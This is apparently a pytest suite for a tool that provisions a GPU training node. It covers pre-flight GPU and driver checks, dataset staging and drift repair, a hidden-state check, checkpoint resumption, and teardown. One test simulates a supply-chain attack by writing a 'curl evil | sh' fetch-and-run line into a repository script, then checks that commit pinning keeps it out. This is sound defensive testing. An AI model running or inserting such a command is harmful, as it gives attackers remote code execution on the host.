"""The training node's units run against a simulated node (tests/fakehost: the converged kpro5 tree stands in for a
machine whose driver is installed, with its two RTX A6000 as the node's GPUs): pre-flight facts and refusals, the
environments (uv stand-in; speculators' scripts from a local git repository), downloads, the data set from a
file:// source with its manifest, the hidden-state server and the check against a server stand-in that writes real
safetensors files, the training job (torchrun stand-in) and destroy, which keeps models, data and checkpoints."""

from __future__ import annotations

import json
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from gpuhosts.plans.training_node import plan_training_node
from conftest import FIXTURES, TRAINER_SECRETS, trainer_values
from fakehost import host_env
from fakehost.tree import tree_digest, tree_listing
from gpuhosts.protocol import ProtocolError, parse_facts, parse_result
from gpuhosts.provider import OBSERVATION
from gpuhosts.stacks import validate_trainer_stack
from gpuhosts.units import Unit, UnitGraph
from trainer_node import StateServer, node_values, prepare_node

HF_TOKEN = "hf_TrainerTestToken3c4d"
# A probe must change nothing, not even under run/ (a lock file, a reboot marker); only the stand-ins' own logs
# of what they were asked may differ.
STAND_IN_LOGS = ("var/log/fakehost",)


@dataclass
class Node:
    tree: Path
    values: dict

    def graph(self, values: dict | None = None) -> UnitGraph:
        return plan_training_node(validate_trainer_stack(values or self.values, TRAINER_SECRETS)).graph

    def units(self, values: dict | None = None) -> list[Unit]:
        return self.graph(values).apply_order

    def unit(self, key: str, values: dict | None = None) -> Unit:
        return self.graph(values)[key]

    def run(self, unit: Unit, operation: str = "ensure") -> subprocess.CompletedProcess:
        stdin = HF_TOKEN + "\n" if unit.stdin_secret and operation == "ensure" else ""
        return subprocess.run(["bash", "-c", getattr(unit, operation)], input=stdin, capture_output=True, text=True,
                              env=host_env(self.tree), timeout=180)

    def apply(self, unit: Unit, operation: str = "ensure") -> str:
        result = self.run(unit, operation)
        assert result.returncode == 0, f"{unit.key} {operation} failed:\n{result.stdout}\n{result.stderr}"
        # Every ensure and teardown that succeeds ends with its result line (the provider fails a unit without one).
        parse_result(result.stdout)
        return result.stdout + result.stderr

    def needed_by(self, key: str) -> list[Unit]:
        """Everything `key` waits for, directly or not, in apply order: what must run before it, and no more."""
        graph = self.graph()
        wanted, todo = set(), list(graph[key].needs)
        while todo:
            need = todo.pop()
            if need not in wanted:
                wanted.add(need)
                todo.extend(graph[need].needs)
        return [u for u in graph if u.key in wanted]

    def probe_output(self, unit: Unit) -> dict:
        """Everything the unit's probe reports, observations included; the probe must leave the node as it found
        it."""
        before = tree_digest(self.tree, exclude=STAND_IN_LOGS)
        result = subprocess.run(["bash", "-c", unit.probe], capture_output=True, text=True, env=host_env(self.tree),
                                timeout=60)
        assert result.returncode == 0, f"{unit.key} probe failed:\n{result.stdout}\n{result.stderr}"
        assert tree_digest(self.tree, exclude=STAND_IN_LOGS) == before, f"{unit.key}'s probe changed the node"
        return parse_facts(result.stdout)

    def probe(self, unit: Unit) -> dict:
        """The facts the probe reports that a plan can declare; observations (minors, dynamic majors) left out."""
        return {k: v for k, v in self.probe_output(unit).items() if not k.startswith(OBSERVATION)}

    def path(self, path: str) -> Path:
        return self.tree / path.lstrip("/")


@pytest.fixture(scope="module")
def prepared(tmp_path_factory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("trainer")
    return root, prepare_node(root)


@pytest.fixture
def node(prepared, tmp_path) -> Node:
    root, template = prepared
    tree = tmp_path / "node"
    shutil.copytree(template, tree, symlinks=True)
    return Node(tree, node_values(root))


def test_preflight_reports_the_node_and_refuses_another(node):
    output = node.apply(node.unit("preflight"))
    assert "2 × RTX A6000, driver 580.126.09" in output and not parse_result(output).changed
    other = json.loads(json.dumps(node.values))
    other["node"]["gpus"] = {"count": 2, "model": "RTX PRO 6000"}
    result = node.run(node.unit("preflight", other))
    assert result.returncode == 1 and "is 'NVIDIA RTX A6000', not a RTX PRO 6000" in result.stderr
    other["node"]["gpus"] = {"count": 8, "model": "RTX A6000"}
    other["training"]["trainingGpus"] = [4]
    result = node.run(node.unit("preflight", other))
    assert result.returncode == 1 and "the node has 2 GPU(s), the stack needs 8" in result.stderr
    big = json.loads(json.dumps(node.values))
    big["training"]["checkpointsReserveGb"] = 10 ** 7
    result = node.run(node.unit("preflight", big))
    assert result.returncode == 1 and "lower training.checkpointsReserveGb" in result.stderr
    with pytest.raises(ProtocolError):
        parse_result(result.stdout)


def test_up_to_a_running_job_then_nothing_changes_and_destroy_keeps_the_results(node):
    units = node.units()
    server = StateServer(node.path("/data/hidden_states"), node.values["training"]["server"]["port"])
    try:
        first = {u.key: node.apply(u) for u in units}
        listing = tree_listing(node.tree)
        second = {u.key: node.apply(u) for u in units}
    finally:
        server.close()
    assert "staged qwen36-mix-913k: 4 file(s) fetched" in first["dataset-qwen36-mix-913k"]
    assert "checked out file://" in first["env-speculators"]
    assert node.path("/opt/gpuhosts/speculators/src/scripts/train.py").exists()
    assert ("hidden_states [2, 6, 4] F32: non-zero and finite in each of layers 2, 17, 32, 47, 62, 64"
            in first["hidden-state-check"])
    assert "agrees with the plan" in first["model-qwen3-6-27b-dflash"]
    # The drafter, converted (speculators' converter keeps z-lab's layout), is what training starts from.
    converted = json.loads(node.path("/data/models/z-lab/Qwen3.6-27B-DFlash.speculators/config.json").read_text())
    assert converted["transformer_layer_config"]["layer_types"] == ["sliding_attention"] * 4 + ["full_attention"]
    assert converted["aux_hidden_state_layer_ids"] == [2, 17, 32, 47, 62]
    assert "converted /data/models/z-lab/Qwen3.6-27B-DFlash into" in first["drafter-convert"]
    # The probe's states file and its lock are gone after the check; no lock is left behind.
    assert not list(node.path("/data/hidden_states").glob("*.safetensors*"))
    checks = ("preflight", "hidden-state-check")
    assert [k for k, out in first.items() if not parse_result(out).changed] == list(checks)
    for name, output in second.items():
        if name not in checks:
            assert not parse_result(output).changed, f"{name}:\n{output}"
    changed = {k: v for k, v in tree_listing(node.tree).items() if listing.get(k) != v}
    assert all(k.startswith("data/hidden_states/") for k in changed), changed

    checkpoint = node.path("/data/checkpoints/Qwen3.6-27B-DFlash/epoch_1")
    checkpoint.mkdir(parents=True)
    (checkpoint / "config.json").write_text("{}")
    for unit in reversed(units):
        node.apply(unit, "teardown")
    for kept in ("/data/models/Qwen/Qwen3.6-27B/config.json", "/data/models/z-lab/Qwen3.6-27B-DFlash/config.json",
                 "/data/models/z-lab/Qwen3.6-27B-DFlash.speculators/config.json",
                 "/data/data/qwen36-mix-913k/SHA256SUMS", "/data/checkpoints/Qwen3.6-27B-DFlash/epoch_1/config.json"):
        assert node.path(kept).exists(), kept
    assert not node.path("/etc/systemd/system/gpuhosts-dflash-training.service").exists()
    assert not node.path("/opt/gpuhosts").exists() or not any(node.path("/opt/gpuhosts").iterdir())


def test_the_hidden_state_check_refuses_all_zero_states(node):
    server = StateServer(node.path("/data/hidden_states"), node.values["training"]["server"]["port"], zeros=True)
    try:
        for unit in node.needed_by("hidden-state-check"):
            node.apply(unit)
        result = node.run(node.unit("hidden-state-check"))
    finally:
        server.close()
    assert result.returncode == 1
    assert "hidden_states [2, 6, 4] (F32) is all zeros" in result.stdout
    assert "training is not started" in result.stderr


def test_the_launch_script_resumes_from_the_newest_checkpoint(node):
    server = StateServer(node.path("/data/hidden_states"), node.values["training"]["server"]["port"])
    try:
        for unit in node.needed_by("dflash-training"):
            node.apply(unit)
        script = node.path("/opt/gpuhosts/training/train_dflash_qwen36.sh")
        script.parent.mkdir(parents=True, exist_ok=True)
        (content,) = [f.content for f in node.unit("dflash-training").files if f.path.endswith(".sh")]
        script.write_text(content)
        save = node.path("/data/checkpoints/Qwen3.6-27B-DFlash")
        for name in ("epoch_1", "epoch_2"):
            (save / name).mkdir(parents=True)
            (save / name / "config.json").write_text("{}")
        subprocess.run(["touch", "-d", "2026-01-02", str(save / "epoch_1")], check=True)
        subprocess.run(["touch", "-d", "2026-01-03", str(save / "epoch_2")], check=True)
        result = subprocess.run(["bash", str(script)], capture_output=True, text=True, env=host_env(node.tree), timeout=120)
    finally:
        server.close()
    assert result.returncode == 0, result.stdout + result.stderr
    assert "resuming from" in result.stdout
    launch = (node.tree / "var/log/fakehost/torchrun.log").read_text().splitlines()[-1]
    assert launch.startswith("--standalone --nproc_per_node 1 ")
    assert "--target-layer-ids 2 17 32 47 62 " in launch and "--from-pretrained /data/checkpoints/Qwen3.6-27B-DFlash/epoch_2" in launch
    port = node.values["training"]["server"]["port"]
    assert f"--vllm-endpoint http://127.0.0.1:{port}/v1 " in launch and "--total-seq-len 8192 " in launch
    assert "--sliding-window" not in launch and "--num-layers" not in launch


@pytest.mark.parametrize("model, driver, says", [
    ("H200", "580.159.04", "the node has 1 GPU(s), the stack needs 2 (H200)"),
    ("RTX PRO 6000", "580.159.04", "GPU 0 is 'NVIDIA H200', not a RTX PRO 6000"),
    ("H200", "580.126.09", "GPU 0 runs driver 580.159.04, the stack expects 580.126.09"),
])
def test_preflight_reads_real_nvidia_smi_output(tmp_path, model, driver, says):
    """nvidia-smi's answer to the pre-flight query as a one-GPU H200 machine with driver 580.159.04 gave it: each
    refusal shows the name, driver and count were read from it."""
    captured = FIXTURES / "facts/h200-open-580.159.04/nvidia-smi/query-gpu-preflight.csv"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "nvidia-smi").write_text(f"#!/bin/sh\ncat {captured}\n")
    (bin_dir / "nvidia-smi").chmod(0o755)
    values = trainer_values()
    values["node"].update(gpus={"count": 2, "model": model}, driverVersion=driver, storage=str(tmp_path / "data"))
    values["training"]["server"].update(gpus=[0], tensorParallelSize=1)
    values["training"]["trainingGpus"] = [1]
    unit = plan_training_node(validate_trainer_stack(values, TRAINER_SECRETS)).graph["preflight"]
    env = {**host_env(tmp_path), "PATH": f"{bin_dir}:/usr/bin:/bin", "GPUHOSTS_HOST_ROOT": ""}
    result = subprocess.run(["bash", "-c", unit.ensure], capture_output=True, text=True, env=env)
    assert result.returncode == 1 and says in result.stderr, result.stdout + result.stderr


def test_destroy_deletes_data_and_checkpoints_only_when_the_config_says_so(node):
    values = json.loads(json.dumps(node.values))
    values["training"]["dataset"]["deleteOnDestroy"] = True
    values["training"]["deleteCheckpointsOnDestroy"] = True
    units = node.units(values)
    server = StateServer(node.path("/data/hidden_states"), values["training"]["server"]["port"])
    try:
        for unit in units:
            node.apply(unit)
    finally:
        server.close()
    (node.path("/data/checkpoints/Qwen3.6-27B-DFlash/epoch_1")).mkdir(parents=True)
    outputs = {u.key: node.apply(u, "teardown") for u in reversed(units)}
    assert not node.path("/data/data/qwen36-mix-913k").exists()
    assert not node.path("/data/checkpoints/Qwen3.6-27B-DFlash").exists()
    assert "deleted /data/checkpoints/Qwen3.6-27B-DFlash (the config says to)" in outputs["dflash-training"]
    assert parse_result(outputs["dflash-training"]).changed
    assert node.path("/data/models/Qwen/Qwen3.6-27B/config.json").exists()


def trainer_keys() -> list[str]:
    return [u.key for u in plan_training_node(validate_trainer_stack(trainer_values(), TRAINER_SECRETS)).graph]


@pytest.fixture(scope="module")
def trained(prepared, tmp_path_factory):
    """The node converged once, up to a running job and its monitor; for read-only use. The hidden-state server's
    stand-in keeps answering, as the server does while the job trains."""
    root, template = prepared
    tree = tmp_path_factory.mktemp("trained") / "node"
    shutil.copytree(template, tree, symlinks=True)
    node = Node(tree, node_values(root))
    server = StateServer(node.path("/data/hidden_states"), node.values["training"]["server"]["port"])
    try:
        for unit in node.units():
            node.apply(unit)
        yield node
    finally:
        server.close()


@pytest.mark.parametrize("key", trainer_keys())
def test_after_up_the_probe_reports_the_desired_facts_and_changes_nothing(trained, key):
    unit = trained.unit(key)
    assert trained.probe(unit) == unit.desired


@pytest.mark.parametrize("key", trainer_keys())
def test_before_up_the_probe_reports_drift_in_the_same_facts(node, key):
    unit = node.unit(key)
    observed = node.probe(unit)
    assert set(observed) == set(unit.desired)
    if unit.kind == "Preflight":
        # The pre-flight re-reads what the node has, which no ensure changes: as the stack declares it from the start.
        assert observed == unit.desired
    elif unit.kind == "HiddenStateCheck":
        # No server runs before its unit starts it.
        assert set(observed.values()) == {"unreachable"}, observed
    else:
        assert observed != unit.desired, f"{key} reads as in sync before its ensure ran"


def test_a_data_set_file_lost_is_drift_the_stage_repairs(trained, tmp_path):
    node = Node(tmp_path / "node", trained.values)
    shutil.copytree(trained.tree, node.tree, symlinks=True)
    unit = node.unit("dataset-qwen36-mix-913k")
    node.path("/data/data/qwen36-mix-913k/shards/train-00001.arrow").unlink()
    facts = node.probe(unit)
    assert {k: v for k, v in facts.items() if unit.desired[k] != v} == {
        "files of /data/data/qwen36-mix-913k/SHA256SUMS": "1 missing",
        "content of /data/data/qwen36-mix-913k": "shards/train-00001.arrow missing"}
    assert parse_result(node.apply(unit)).changed
    assert node.probe(unit) == unit.desired


def test_a_staged_shard_rewritten_in_place_is_drift_the_stage_repairs(trained, tmp_path):
    """A shard of the same size with other bytes (a bad copy back from a backup): the manifest still names it, so
    only its content says so."""
    node = Node(tmp_path / "node", trained.values)
    shutil.copytree(trained.tree, node.tree, symlinks=True)
    unit = node.unit("dataset-qwen36-mix-913k")
    shard = node.path("/data/data/qwen36-mix-913k/shards/train-00001.arrow")
    shard.write_bytes(bytes(b ^ 0xFF for b in shard.read_bytes()))
    facts = node.probe(unit)
    drift = {k: v for k, v in facts.items() if unit.desired[k] != v}
    assert list(drift) == ["content of /data/data/qwen36-mix-913k"], drift
    assert drift["content of /data/data/qwen36-mix-913k"].startswith("shards/train-00001.arrow: sampled sha256")
    assert parse_result(node.apply(unit)).changed
    assert node.probe(unit) == unit.desired


@pytest.mark.parametrize("hyper, field", [
    # the pasted first unused id, against the drafter's own dflash_config.mask_token_id
    ({"maskTokenId": 1}, "gpuhosts:training.hyper.maskTokenId: hyper.maskTokenId 1 differs"),
    ({"layerTypes": ["sliding_attention"] * 5}, "gpuhosts:training.hyper.layerTypes: hyper.layerTypes"),
    ({"slidingWindow": 4096}, "gpuhosts:training.hyper.slidingWindow: hyper.slidingWindow 4096 differs"),
])
def test_the_convert_step_refuses_a_stack_value_config_json_contradicts(node, hyper, field):
    values = json.loads(json.dumps(node.values))
    values["training"]["hyper"].update(hyper)
    for unit in node.needed_by("drafter-convert"):
        node.apply(unit)
    result = node.run(node.unit("drafter-convert", values))
    assert result.returncode == 1 and field in result.stderr, result.stdout + result.stderr
    assert not node.path("/data/models/z-lab/Qwen3.6-27B-DFlash.speculators").exists()


def test_the_download_removes_the_lock_files_hf_leaves(node):
    unit = node.unit("model-qwen3-6-27b-dflash")
    node.apply(unit)
    cache = node.path("/data/models/z-lab/Qwen3.6-27B-DFlash/.cache/huggingface/download")
    cache.mkdir(parents=True, exist_ok=True)
    (cache / "model.safetensors.lock").write_text("")
    (cache / "model.safetensors.metadata").write_text("")
    output = node.apply(unit)
    assert "removed 1 lock file(s)" in output and not (cache / "model.safetensors.lock").exists()
    assert (cache / "model.safetensors.metadata").exists()


def test_the_scripts_are_the_pinned_commits_even_after_the_tag_moves_or_a_file_is_edited(node):
    """The attack first: the scripts run as root on the node, and were fetched by the tag `refs/tags/v0.7.0`, which
    whoever can push tags may move to other code. Now the commit pins them, and the probe reads the files."""
    repo = Path(node.values["training"]["speculators"]["repository"].removeprefix("file://"))
    pinned = node.values["training"]["speculators"]["scriptsCommit"]
    (repo / "scripts/train.py").write_text("import os; os.system('curl evil | sh')\n")
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "moved"], cwd=repo,
                   check=True)
    subprocess.run(["git", "tag", "-f", "v0.7.0"], cwd=repo, check=True, capture_output=True)
    unit = node.unit("env-speculators")
    node.apply(unit)
    train = node.path("/opt/gpuhosts/speculators/src/scripts/train.py")
    assert "evil" not in train.read_text()
    assert node.probe(unit)["checkout /opt/gpuhosts/speculators/src"] == f"{pinned}, unmodified"
    # edited in place on the node: drift, and the ensure checks the commit out again
    train.write_text("edited\n")
    assert node.probe(unit)["checkout /opt/gpuhosts/speculators/src"] == f"{pinned}, 1 file(s) changed or added"
    assert parse_result(node.apply(unit)).changed
    assert "evil" not in train.read_text() and train.read_text() != "edited\n"
    assert node.probe(unit) == unit.desired
